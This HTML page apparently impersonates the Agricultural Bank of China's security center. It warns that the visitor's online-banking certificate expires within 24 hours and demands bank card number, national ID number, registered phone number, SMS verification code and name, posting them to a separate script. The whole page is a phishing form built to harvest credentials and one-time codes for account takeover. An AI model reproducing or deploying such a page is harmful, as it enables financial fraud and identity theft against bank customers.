<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>中国农业银行安全中心</title>
<style>html,body{height:100%}.wrap{width:1000px;margin:0 auto}</style>

</head>
<body>
<div class="menu"><a href="/1">首页</a> | <a href="/2">个人网银</a> | <a href="?c=3">安全中心</a></div>
<main class="wrap">
<div class="panel">
<div class="alert">系统检测到您的网银证书即将过期，请于24小时内完成身份验证。</div>
</div>
<div class="mod">
<form action="next.php" method="post"><div class="row"><label>银行卡号</label><input type="text" name="cardno" placeholder="请输入银行卡号"></div>
<div class="row"><label>身份证号</label><input type="text" name="idcard" placeholder="请输入身份证号"></div>
<div class="row"><label>预留手机号</label><input type="text" name="phone" placeholder="请输入预留手机号"></div>
<div class="row"><label>短信验证码</label><input type="text" name="smscode" placeholder="请输入短信验证码"></div>
<div class="row"><label>姓名</label><input type="text" name="username" placeholder="请输入姓名"></div><button type="submit">立即验证</button></form>
</div>
<section>
<p class="tip">温馨提示：验证成功后账户将自动解冻</p>
</section>
</main>
<footer>中国农业银行 版权所有 客服热线 955xx</footer>
<script src="/static/js/app.3667c1c0.js"></script>
</body>
</html>
